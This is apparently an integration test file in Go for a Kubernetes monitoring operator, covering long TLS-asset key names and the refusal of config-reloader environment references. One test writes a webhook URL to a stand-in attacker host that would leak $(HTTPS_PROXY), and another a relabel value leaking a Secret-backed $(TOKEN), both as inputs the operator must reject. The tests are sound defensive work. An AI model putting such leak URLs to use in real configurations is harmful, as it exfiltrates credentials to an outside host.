package integration

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	monitoringv1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1"
	monitoringv1alpha1 "github.com/prometheus-operator/prometheus-operator/pkg/apis/monitoring/v1alpha1"
	amconfig "github.com/prometheus/alertmanager/config"
	promconfig "github.com/prometheus/common/config"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/lookout-operator/lookout/pkg/alertmanager/amcfg"
	"github.com/lookout-operator/lookout/pkg/layout"
)

// TestAlertmanagerLongAssetName: an AlertmanagerConfig whose CA comes from a Secret with
// the longest name the API server allows produces a tls-assets key a Secret may hold; the
// assets are written, and the generated configuration loads and builds its HTTP client
// with Alertmanager's own code against the files of the tls-assets Secret. Before, the
// key was too long: the config Secret was written, the tls-assets Secret refused, and
// Alertmanager failed with "unable to read CA cert" for everyone (issue 32, item 3).
func TestAlertmanagerLongAssetName(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t, nil)
	long := strings.Repeat("c", 253)
	ca := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: long}, StringData: map[string]string{"ca.crt": tlsMaterial().ca}}
	amc := &monitoringv1alpha1.AlertmanagerConfig{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant", Labels: map[string]string{"team": "a"}},
		Spec: monitoringv1alpha1.AlertmanagerConfigSpec{
			Route: &monitoringv1alpha1.Route{Receiver: "hook"},
			Receivers: []monitoringv1alpha1.Receiver{{Name: "hook", WebhookConfigs: []monitoringv1alpha1.WebhookConfig{{
				URL: ptr.To("https://hook.example.invalid/"),
				HTTPConfig: &monitoringv1alpha1.HTTPConfig{TLSConfig: &monitoringv1.SafeTLSConfig{
					CA: monitoringv1.SecretOrConfigMap{Secret: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: long}, Key: "ca.crt"}},
				}},
			}}}},
		},
	}
	am := &monitoringv1.Alertmanager{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "main"}, Spec: monitoringv1.AlertmanagerSpec{
		AlertmanagerConfigSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"team": "a"}},
	}}
	create(t, ca, amc, am)

	var cfg string
	assets := &corev1.Secret{}
	eventually(t, 30*time.Second, "the configuration and its assets", func() error {
		var err error
		if cfg, _, err = amConfig(ns, "main"); err != nil {
			return err
		}
		if !strings.Contains(cfg, ns+"/tenant/hook") {
			return fmt.Errorf("the AlertmanagerConfig is not in the configuration yet: %s", cfg)
		}
		return k8s.Get(ctx, types.NamespacedName{Namespace: ns, Name: layout.Alertmanager("main").TLSAssetsSecret(0)}, assets)
	})
	dir := t.TempDir()
	for k, v := range assets.Data {
		if len(k) > 253 {
			t.Errorf("tls-assets key of %d characters", len(k))
		}
		if err := os.WriteFile(filepath.Join(dir, k), v, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	loaded, err := amconfig.Load(strings.ReplaceAll(cfg, amcfg.TLSAssetsDir+"/", dir+"/"))
	if err != nil {
		t.Fatalf("Alertmanager refuses the configuration: %v", err)
	}
	found := false
	for _, rcv := range loaded.Receivers {
		for _, wh := range rcv.WebhookConfigs {
			if wh.HTTPConfig == nil || wh.HTTPConfig.TLSConfig.CAFile == "" {
				continue
			}
			found = true
			if _, err := promconfig.NewClientFromConfig(*wh.HTTPConfig, "webhook"); err != nil {
				t.Errorf("receiver %s: %v", rcv.Name, err)
			}
		}
	}
	if !found {
		t.Fatalf("no webhook with a CA file in %s", cfg)
	}
}

// TestAlertmanagerConfigEnvRefs: an AlertmanagerConfig whose webhook URL refers to the
// config-reloader's environment is refused with a message naming the variable, and the
// generated configuration never carries the reference (issue 32, item 6).
func TestAlertmanagerConfigEnvRefs(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t, nil)
	leak := "https://attacker.example/hook?leak=$(HTTPS_PROXY)"
	amc := &monitoringv1alpha1.AlertmanagerConfig{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "leak", Labels: map[string]string{"team": "a"}},
		Spec: monitoringv1alpha1.AlertmanagerConfigSpec{
			Route:     &monitoringv1alpha1.Route{Receiver: "hook"},
			Receivers: []monitoringv1alpha1.Receiver{{Name: "hook", WebhookConfigs: []monitoringv1alpha1.WebhookConfig{{URL: &leak}}}},
		},
	}
	am := &monitoringv1.Alertmanager{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "main"}, Spec: monitoringv1.AlertmanagerSpec{
		AlertmanagerConfigSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"team": "a"}},
	}}
	create(t, amc, am)
	eventually(t, 30*time.Second, "refused naming the variable", func() error {
		return amcBinding(ns, "leak", "main", monitoringv1.ConditionFalse,
			"spec.receivers[0]: refers to $(HTTPS_PROXY) (in its text or a Secret it reads): the config-reloader would replace it with a value from its own environment; an AlertmanagerConfig may refer only to $(POD_NAME)")
	})
	if cfg, _, err := amConfig(ns, "main"); err != nil || strings.Contains(cfg, "HTTPS_PROXY") {
		t.Fatalf("generated configuration (%v):\n%s", err, cfg)
	}
}

// TestMonitorEnvRefsOnlyShared: a variable the owner declares for the config-reloader
// (here one from a Secret) is not open to monitors until the owner shares it with the
// lookout.dev/shareable-reloader-env annotation (issue 32, item 6).
func TestMonitorEnvRefsOnlyShared(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t, nil)
	p := newPrometheus(ns, "env", func(p *monitoringv1.Prometheus) {
		p.Spec.Containers = []corev1.Container{{Name: "config-reloader", Env: []corev1.EnvVar{{Name: "TOKEN", ValueFrom: &corev1.EnvVarSource{
			SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "admin"}, Key: "token"}}}}}}
	})
	sm := newServiceMonitor(ns, "leak", func(s *monitoringv1.ServiceMonitor) {
		s.Spec.Endpoints[0].RelabelConfigs = []monitoringv1.RelabelConfig{{Action: "replace", TargetLabel: "x", Replacement: ptr.To("$(TOKEN)")}}
	})
	create(t, p, sm)
	check := func(what string, want monitoringv1.ConditionStatus, msg string) {
		t.Helper()
		eventually(t, 30*time.Second, what, func() error {
			if err := k8s.Get(ctx, types.NamespacedName{Namespace: ns, Name: "leak"}, sm); err != nil {
				return err
			}
			c, err := acceptedCondition(sm, ns, "env")
			if err != nil {
				return err
			}
			if c.Status != want || !strings.Contains(c.Message, msg) {
				return fmt.Errorf("condition %+v", c)
			}
			return nil
		})
	}
	check("declared but not shared: refused", monitoringv1.ConditionFalse, "refers to $(TOKEN): the config-reloader would replace it with a value from its own environment")
	update(t, p, func() { p.Annotations = map[string]string{"lookout.dev/shareable-reloader-env": "TOKEN"} })
	check("shared: accepted", monitoringv1.ConditionTrue, "")
}
